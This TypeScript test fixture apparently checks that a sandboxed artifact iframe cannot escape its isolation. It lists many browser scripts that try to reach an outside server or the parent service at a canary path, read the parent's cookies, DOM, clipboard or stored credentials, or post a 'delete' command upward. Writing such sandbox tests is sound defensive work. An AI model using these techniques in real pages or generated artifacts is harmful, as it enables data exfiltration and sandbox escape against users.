/**
 * What the scripts of an artifact try, each a function's body: `C` is somebody else's server, `S`
 * the service, `own` marks an address so that it is known again. What is reached there is counted
 * there; what returns something other than undefined has got hold of that.
 */
const tag = (name: string, fields: string): string =>
  `const e = document.createElement('${name}'); Object.assign(e, ${fields}); document.body.append(e)`
/** `@@` stands for the address. */
const css = (text: string): string =>
  `const e = document.createElement('style');
   e.textContent = ${JSON.stringify(text)}.replaceAll('@@', C + own); document.head.append(e);
   document.body.insertAdjacentHTML('beforeend', '<p class="w" style="font-family:w">x</p>')`
const both = (script: (base: string) => string): string[] => [script('C'), script('S')]

export const escapes: readonly string[] = [
  ...both((b) => `fetch(${b} + own)`),
  ...both((b) => `fetch(${b} + own, { method: 'POST', mode: 'no-cors', body: 'x' })`),
  `return fetch(S + '/auth/me', { credentials: 'include' }).then((r) => r.text())`,
  ...both((b) => `const x = new XMLHttpRequest(); x.open('GET', ${b} + own); x.send()`),
  ...both((b) => `new WebSocket(${b}.replace('http', 'ws') + own)`),
  ...both((b) => `new EventSource(${b} + own)`),
  ...both((b) => `navigator.sendBeacon(${b} + own, 'x')`),
  ...both((b) => `new Image().src = ${b} + own`),
  ...both((b) => tag('script', `{ src: ${b} + own }`)),
  ...both((b) => `import(${b} + own)`),
  ...both((b) => tag('iframe', `{ src: ${b} + own }`)),
  ...both((b) => tag('object', `{ data: ${b} + own }`)),
  ...both((b) => tag('embed', `{ src: ${b} + own }`)),
  ...both((b) => tag('link', `{ rel: 'stylesheet', href: ${b} + own }`)),
  tag('link', `{ rel: 'preload', as: 'font', crossOrigin: '', href: C + own }`),
  tag('link', `{ rel: 'prefetch', href: C + own }`),
  tag('link', `{ rel: 'modulepreload', href: C + own }`),
  tag('link', `{ rel: 'prerender', href: C + own }`),
  tag('link', `{ rel: 'manifest', href: C + own }`),
  tag('link', `{ rel: 'icon', href: C + own }`),
  tag('iframe', `{ srcdoc: '<script>new Image().src="' + C + own + '"<\\/script>' }`),
  tag('iframe', `{ src: 'javascript:new Image().src="' + C + own + '"' }`),
  tag('iframe', `{ src: 'data:text/html,<img src="' + C + own + '">' }`),
  tag('audio', `{ src: C + own, preload: 'auto' }`),
  tag('video', `{ poster: C + own }`),
  tag('video', `{ src: C + own, preload: 'auto' }`),
  tag('img', `{ srcset: C + own + ' 1x' }`),
  tag('input', `{ type: 'image', src: C + own }`),
  `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + C + own + '"/></svg>')`,
  `document.body.insertAdjacentHTML('beforeend', '<svg><use href="' + C + own + '#a"/></svg>')`,
  `document.body.insertAdjacentHTML('beforeend', '<table background="' + C + own + '">')`,
  `document.body.insertAdjacentHTML('beforeend', '<video><track default src="' + C + own + '">')`,
  css('.w { background: url(@@) }'),
  css('.w { cursor: url(@@), auto; list-style: url(@@); content: url(@@) }'),
  css('@import url(@@);'),
  css('@font-face { font-family: w; src: url(@@) }'),
  `new FontFace('w', 'url(' + C + own + ')').load()`,
  `document.body.style.cssText = 'border-image: url(' + C + own + ') 1'`,
  `document.head.innerHTML += '<meta http-equiv="refresh" content="0;url=' + C + own + '">'`,
  `document.head.insertAdjacentHTML('beforeend', '<base href="' + C + '/">'); new Image().src = own`,
  `const f = document.createElement('form'); f.action = C + own; document.body.append(f); f.submit()`,
  `const f = document.createElement('form'); f.action = S + own; f.method = 'post'; f.target = '_top';
   document.body.append(f); f.submit()`,
  `const f = document.createElement('form'); f.action = C + own; f.target = '_blank';
   document.body.append(f); f.requestSubmit()`,
  `window.open(C + own)`,
  `const a = document.createElement('a'); a.href = C + own; a.target = '_blank'; a.click()`,
  `const a = document.createElement('a'); a.href = C + own; a.target = '_top'; a.click()`,
  `const a = document.createElement('a'); a.href = C + own; a.target = '_parent'; a.click()`,
  `const a = document.createElement('a'); a.href = '#x'; a.ping = C + own; a.click()`,
  `const a = document.createElement('a'); a.href = C + own; a.download = 'x'; a.click()`,
  `top.location = C + own`,
  `top.location.replace(C + own)`,
  `parent.location.href = C + own`,
  `location.href = C + own`,
  `location.assign(S + own)`,
  `document.open(); document.write('<script src="' + C + own + '"><\\/script>')`,
  `return top.document.body.innerHTML`,
  `return parent.document.cookie`,
  `return top.location.href`,
  `return frameElement.outerHTML`,
  `document.cookie = 'session=mine'; return document.cookie || undefined`,
  `return document.domain = '127.0.0.1'`,
  `localStorage.setItem('a', 'b'); return localStorage.getItem('a')`,
  `sessionStorage.setItem('a', 'b'); return sessionStorage.getItem('a')`,
  `return new Promise((ok, no) => { const r = indexedDB.open('a');
   r.onsuccess = () => ok('a store'); r.onerror = no })`,
  `return caches.open('a').then(() => 'a cache')`,
  `return navigator.serviceWorker.register('/worker.js').then(() => 'a worker')`,
  `new Worker(C + own)`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("' + C + own + '")'])))`,
  `new SharedWorker(S + own)`,
  `return CSS.paintWorklet.addModule(C + own).then(() => 'a worklet')`,
  `eval('fetch(C + own)'); return 'eval'`,
  `return new Function('return "made"')()`,
  `history.pushState({}, '', C + own); return 'an address of another'`,
  `return navigator.clipboard.readText()`,
  `return navigator.credentials.get({ password: true }).then((c) => c ?? undefined)`,
  `parent.postMessage({ type: 'navigate', url: C + own, command: 'delete' }, '*')`,
  `const s = document.createElement('script'); s.type = 'speculationrules';
   s.textContent = JSON.stringify({ prefetch: [{ urls: [C + own] }] }); document.head.append(s)`,
  `return navigator.storage.getDirectory().then(() => 'a directory')`,
  `new BroadcastChannel('a').postMessage('x'); return origin === 'null' ? undefined : origin`,
]

/** An artifact whose script tries this one and tells the frame above when it did. */
export const escaping = (
  script: string,
  bases: { readonly C: string; readonly S: string },
): string =>
  `<!doctype html><title>x</title><body><script>
  const { C, S } = ${JSON.stringify(bases)}, own = '/canary'
  const attempt = async () => { ${script} }
  attempt().then((got) => got === undefined ? 'nothing' : 'got ' + String(got), (e) => 'refused')
    .then((outcome) => parent.postMessage({ outcome }, '*'))
  </script>`
